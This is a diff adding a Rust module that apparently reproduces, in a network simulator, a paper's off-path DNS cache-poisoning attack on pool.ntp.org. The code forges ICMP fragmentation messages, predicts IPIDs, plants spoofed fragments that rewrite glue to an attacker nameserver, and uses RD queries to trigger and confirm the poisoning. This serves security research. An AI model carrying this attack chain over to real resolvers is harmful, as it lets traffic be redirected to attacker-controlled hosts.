@@ -1,0 +1,396 @@
+//! The reusable off-path poisoning pipeline (paper §III + §IV-A).
+//!
+//! Drives the full chain against a victim resolver, continuously:
+//!
+//! 1. **Force fragmentation**: forged ICMP frag-needed to every target
+//!    nameserver, claiming a small MTU towards the resolver (refreshed
+//!    before the PMTU cache expires).
+//! 2. **Probe**: periodic direct DNS queries to each nameserver — the
+//!    responses yield both the response byte layout (for forging) and the
+//!    IPID counter samples (for prediction).
+//! 3. **Plant**: every 25 s (under the 30 s Linux reassembly timeout),
+//!    spoofed second fragments for a window of predicted IPIDs are placed
+//!    in the resolver's defragmentation cache, for every target NS.
+//! 4. **Trigger** (optional): RD=1 queries to an open resolver force it to
+//!    resolve `pool.ntp.org` when the cached A expires — the attacker
+//!    controls query timing (§IV-A option 2/3).
+//! 5. **Check** (optional): RD=0 snooping verifies whether the poisoned
+//!    glue / the malicious A set has landed, so the attacker can stop.
+
+use std::collections::HashMap;
+use std::net::Ipv4Addr;
+
+use dns::auth::DNS_PORT;
+use dns::message::Message;
+use dns::name::Name;
+use dns::record::RecordType;
+use netsim::prelude::*;
+use rand::RngExt;
+
+use crate::forge::{forge_tail, ForgedTail};
+use crate::icmp_force::{forge_frag_needed, FORCED_MTU};
+use crate::ipid::IpidPredictor;
+
+/// Configuration of the poisoning pipeline.
+#[derive(Debug, Clone)]
+pub struct PoisonConfig {
+    /// The victim resolver.
+    pub resolver: Ipv4Addr,
+    /// The authoritative nameservers of the pool domain.
+    pub ns_targets: Vec<Ipv4Addr>,
+    /// The attacker's nameserver address (glue records are rewritten to it).
+    pub attacker_ns: Ipv4Addr,
+    /// Prefix identifying attacker-controlled addresses (for success
+    /// detection via snooping): `(network, prefix_len)`.
+    pub malicious_net: (Ipv4Addr, u8),
+    /// MTU forced via ICMP.
+    pub forced_mtu: u16,
+    /// Width of the planted IPID window.
+    pub ipid_window: u16,
+    /// Fragment re-planting period (< defrag timeout).
+    pub plant_interval: SimDuration,
+    /// NS probing period.
+    pub probe_interval: SimDuration,
+    /// ICMP refresh period (< PMTU cache lifetime).
+    pub icmp_refresh: SimDuration,
+    /// RD=0 success-check period against an open resolver (None: closed).
+    pub check_interval: Option<SimDuration>,
+    /// RD=1 query-trigger period against an open resolver (None: the
+    /// victim's own queries are the only trigger).
+    pub trigger_interval: Option<SimDuration>,
+    /// The domain under attack.
+    pub pool_domain: Name,
+}
+
+impl PoisonConfig {
+    /// A standard configuration against an open resolver.
+    pub fn open_resolver(
+        resolver: Ipv4Addr,
+        ns_targets: Vec<Ipv4Addr>,
+        attacker_ns: Ipv4Addr,
+    ) -> Self {
+        PoisonConfig {
+            resolver,
+            ns_targets,
+            attacker_ns,
+            malicious_net: (Ipv4Addr::new(66, 66, 0, 0), 16),
+            forced_mtu: FORCED_MTU,
+            ipid_window: 16,
+            plant_interval: SimDuration::from_secs(25),
+            probe_interval: SimDuration::from_secs(20),
+            icmp_refresh: SimDuration::from_secs(240),
+            check_interval: Some(SimDuration::from_secs(30)),
+            trigger_interval: Some(SimDuration::from_secs(30)),
+            pool_domain: "pool.ntp.org".parse().expect("static name"),
+        }
+    }
+
+    /// Same, but without trigger/check (closed resolver: only the victim's
+    /// own lookups trigger resolution).
+    pub fn closed_resolver(
+        resolver: Ipv4Addr,
+        ns_targets: Vec<Ipv4Addr>,
+        attacker_ns: Ipv4Addr,
+    ) -> Self {
+        PoisonConfig {
+            check_interval: None,
+            trigger_interval: None,
+            ..PoisonConfig::open_resolver(resolver, ns_targets, attacker_ns)
+        }
+    }
+
+    /// True if `addr` is in the attacker's network.
+    pub fn is_malicious(&self, addr: Ipv4Addr) -> bool {
+        let (net, len) = self.malicious_net;
+        let mask = if len == 0 { 0 } else { u32::MAX << (32 - u32::from(len)) };
+        (u32::from(addr) & mask) == (u32::from(net) & mask)
+    }
+}
+
+/// Counters exposed by the pipeline.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub struct PoisonStats {
+    /// Forged ICMP messages sent.
+    pub icmps_sent: u64,
+    /// Probe queries sent to nameservers.
+    pub probes_sent: u64,
+    /// Spoofed fragments planted.
+    pub fragments_planted: u64,
+    /// Trigger queries sent to the resolver.
+    pub triggers_sent: u64,
+    /// RD=0 check queries sent.
+    pub checks_sent: u64,
+}
+
+#[derive(Debug, Default)]
+struct TargetState {
+    predictor: IpidPredictor,
+    observed: Option<Vec<u8>>,
+    tail: Option<ForgedTail>,
+}
+
+const PROBE_PORT: u16 = 5399;
+const CONTROL_PORT: u16 = 5398;
+
+/// The embedded poisoning engine. The owning [`Host`] forwards its
+/// `on_start`/timer-tick/`on_datagram`/`on_raw_packet` events.
+#[derive(Debug)]
+pub struct PoisonPipeline {
+    /// Configuration (public for scenario introspection).
+    pub config: PoisonConfig,
+    targets: HashMap<Ipv4Addr, TargetState>,
+    probe_pending: HashMap<u16, Ipv4Addr>,
+    control_pending: HashMap<u16, ControlQuery>,
+    check_name: Option<Name>,
+    last_icmp: Option<SimTime>,
+    last_probe: Option<SimTime>,
+    last_plant: Option<SimTime>,
+    last_check: Option<SimTime>,
+    last_trigger: Option<SimTime>,
+    /// Set once RD=0 snooping sees poisoned glue.
+    pub glue_poisoned: bool,
+    /// Set once RD=0 snooping sees the malicious A set for the pool domain.
+    pub fully_poisoned: bool,
+    /// When the glue poisoning was first confirmed.
+    pub glue_poisoned_at: Option<SimTime>,
+    /// When full poisoning was first confirmed.
+    pub fully_poisoned_at: Option<SimTime>,
+    /// Counters.
+    pub stats: PoisonStats,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum ControlQuery {
+    CheckGlue,
+    CheckPool,
+    Trigger,
+}
+
+impl PoisonPipeline {
+    /// Creates the pipeline.
+    pub fn new(config: PoisonConfig) -> Self {
+        let targets = config.ns_targets.iter().map(|&a| (a, TargetState::default())).collect();
+        PoisonPipeline {
+            config,
+            targets,
+            probe_pending: HashMap::new(),
+            control_pending: HashMap::new(),
+            check_name: None,
+            last_icmp: None,
+            last_probe: None,
+            last_plant: None,
+            last_check: None,
+            last_trigger: None,
+            glue_poisoned: false,
+            fully_poisoned: false,
+            glue_poisoned_at: None,
+            fully_poisoned_at: None,
+            stats: PoisonStats::default(),
+        }
+    }
+
+    /// Kick off: force fragmentation and start probing.
+    pub fn start(&mut self, ctx: &mut Ctx<'_>) {
+        self.send_icmps(ctx);
+        self.send_probes(ctx);
+    }
+
+    /// Periodic driver; call every simulated second.
+    pub fn tick(&mut self, ctx: &mut Ctx<'_>) {
+        let now = ctx.now();
+        if due(now, self.last_icmp, self.config.icmp_refresh) {
+            self.send_icmps(ctx);
+        }
+        if due(now, self.last_probe, self.config.probe_interval) {
+            self.send_probes(ctx);
+        }
+        if !self.fully_poisoned && due(now, self.last_plant, self.config.plant_interval) {
+            self.plant(ctx);
+        }
+        if let Some(interval) = self.config.check_interval {
+            if !self.fully_poisoned && due(now, self.last_check, interval) {
+                self.send_checks(ctx);
+            }
+        }
+        // Trigger queries serve double duty: before glue poisoning each
+        // resolver re-resolution (every A-TTL expiry) is a fresh poisoning
+        // opportunity; after it, the next resolution fetches the malicious
+        // A set from the attacker's nameserver.
+        if let Some(interval) = self.config.trigger_interval {
+            if !self.fully_poisoned && due(now, self.last_trigger, interval) {
+                self.send_trigger(ctx);
+            }
+        }
+    }
+
+    fn send_icmps(&mut self, ctx: &mut Ctx<'_>) {
+        self.last_icmp = Some(ctx.now());
+        let resolver = self.config.resolver;
+        let mtu = self.config.forced_mtu;
+        for &ns in self.config.ns_targets.iter().collect::<Vec<_>>() {
+            self.stats.icmps_sent += 1;
+            ctx.send_icmp(ns, forge_frag_needed(ns, resolver, mtu));
+        }
+    }
+
+    fn send_probes(&mut self, ctx: &mut Ctx<'_>) {
+        self.last_probe = Some(ctx.now());
+        let domain = self.config.pool_domain.clone();
+        for &ns in self.config.ns_targets.iter().collect::<Vec<_>>() {
+            let txid: u16 = ctx.rng().random();
+            let query = Message::query(txid, domain.clone(), RecordType::A, false);
+            if let Ok(wire) = query.encode() {
+                self.stats.probes_sent += 1;
+                self.probe_pending.insert(txid, ns);
+                ctx.send_udp(ns, PROBE_PORT, DNS_PORT, wire);
+            }
+        }
+    }
+
+    fn plant(&mut self, ctx: &mut Ctx<'_>) {
+        self.last_plant = Some(ctx.now());
+        let resolver = self.config.resolver;
+        let window = self.config.ipid_window;
+        let horizon = ctx.now() + self.config.plant_interval;
+        let mut to_send = Vec::new();
+        for (&ns, state) in &mut self.targets {
+            let Some(tail) = &state.tail else { continue };
+            // Predict the counter over the planting horizon.
+            let ipids = state.predictor.predict_window(horizon, window);
+            if ipids.is_empty() {
+                continue;
+            }
+            for pkt in tail.fragments(ns, resolver, &ipids) {
+                to_send.push(pkt);
+            }
+        }
+        for pkt in to_send {
+            self.stats.fragments_planted += 1;
+            ctx.send_raw(pkt);
+        }
+    }
+
+    fn send_checks(&mut self, ctx: &mut Ctx<'_>) {
+        self.last_check = Some(ctx.now());
+        let send = |pipeline: &mut Self, ctx: &mut Ctx<'_>, name: Name, kind: ControlQuery| {
+            let txid: u16 = ctx.rng().random();
+            // RD=0: answer from cache only — never perturbs the resolver.
+            let query = Message::query(txid, name, RecordType::A, false);
+            if let Ok(wire) = query.encode() {
+                pipeline.stats.checks_sent += 1;
+                pipeline.control_pending.insert(txid, kind);
+                ctx.send_udp(pipeline.config.resolver, CONTROL_PORT, DNS_PORT, wire);
+            }
+        };
+        if let Some(name) = self.check_name.clone() {
+            if !self.glue_poisoned {
+                send(self, ctx, name, ControlQuery::CheckGlue);
+            }
+        }
+        let pool = self.config.pool_domain.clone();
+        send(self, ctx, pool, ControlQuery::CheckPool);
+    }
+
+    fn send_trigger(&mut self, ctx: &mut Ctx<'_>) {
+        self.last_trigger = Some(ctx.now());
+        let txid: u16 = ctx.rng().random();
+        let query = Message::query(txid, self.config.pool_domain.clone(), RecordType::A, true);
+        if let Ok(wire) = query.encode() {
+            self.stats.triggers_sent += 1;
+            self.control_pending.insert(txid, ControlQuery::Trigger);
+            ctx.send_udp(self.config.resolver, CONTROL_PORT, DNS_PORT, wire);
+        }
+    }
+
+    /// Raw tap: harvest IPIDs from nameserver responses.
+    pub fn handle_raw(&mut self, now: SimTime, pkt: &netsim::ipv4::Ipv4Packet) {
+        if pkt.is_fragment() {
+            return;
+        }
+        if let Some(state) = self.targets.get_mut(&pkt.src) {
+            state.predictor.observe(now, pkt.id);
+        }
+    }
+
+    /// Datagram handling; returns `true` if the datagram belonged to the
+    /// pipeline.
+    pub fn handle_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) -> bool {
+        match d.dst_port {
+            PROBE_PORT => {
+                let Ok(msg) = Message::decode(&d.payload) else { return true };
+                if !msg.header.qr || self.probe_pending.remove(&msg.header.id).is_none() {
+                    return true;
+                }
+                if let Some(state) = self.targets.get_mut(&d.src) {
+                    let bytes = d.payload.to_vec();
+                    if state.observed.as_deref() != Some(bytes.as_slice()) {
+                        state.tail =
+                            forge_tail(&bytes, self.config.forced_mtu, self.config.attacker_ns).ok();
+                        if let Some(tail) = &state.tail {
+                            if self.check_name.is_none() {
+                                self.check_name = tail.poisoned_names.first().cloned();
+                            }
+                        }
+                        state.observed = Some(bytes);
+                    }
+                }
+                true
+            }
+            CONTROL_PORT => {
+                let Ok(msg) = Message::decode(&d.payload) else { return true };
+                let Some(kind) = self.control_pending.remove(&msg.header.id) else { return true };
+                let addrs = msg.answer_addrs();
+                match kind {
+                    ControlQuery::CheckGlue => {
+                        if addrs.contains(&self.config.attacker_ns) {
+                            self.glue_poisoned = true;
+                            self.glue_poisoned_at.get_or_insert(ctx.now());
+                        }
+                    }
+                    ControlQuery::CheckPool | ControlQuery::Trigger => {
+                        if !addrs.is_empty() && addrs.iter().all(|&a| self.config.is_malicious(a)) {
+                            self.glue_poisoned = true;
+                            self.glue_poisoned_at.get_or_insert(ctx.now());
+                            self.fully_poisoned = true;
+                            self.fully_poisoned_at.get_or_insert(ctx.now());
+                        }
+                    }
+                }
+                true
+            }
+            _ => false,
+        }
+    }
+}
+
+fn due(now: SimTime, last: Option<SimTime>, interval: SimDuration) -> bool {
+    match last {
+        None => true,
+        Some(t) => now.saturating_since(t) >= interval,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn malicious_net_matching() {
+        let config = PoisonConfig::open_resolver(
+            "10.0.0.53".parse().unwrap(),
+            vec!["198.51.100.1".parse().unwrap()],
+            "66.66.66.66".parse().unwrap(),
+        );
+        assert!(config.is_malicious("66.66.1.2".parse().unwrap()));
+        assert!(!config.is_malicious("66.67.1.2".parse().unwrap()));
+        assert!(!config.is_malicious("192.0.2.1".parse().unwrap()));
+    }
+
+    #[test]
+    fn due_helper() {
+        let t0 = SimTime::from_secs(100);
+        assert!(due(t0, None, SimDuration::from_secs(10)));
+        assert!(!due(t0, Some(SimTime::from_secs(95)), SimDuration::from_secs(10)));
+        assert!(due(t0, Some(SimTime::from_secs(90)), SimDuration::from_secs(10)));
+    }
+}
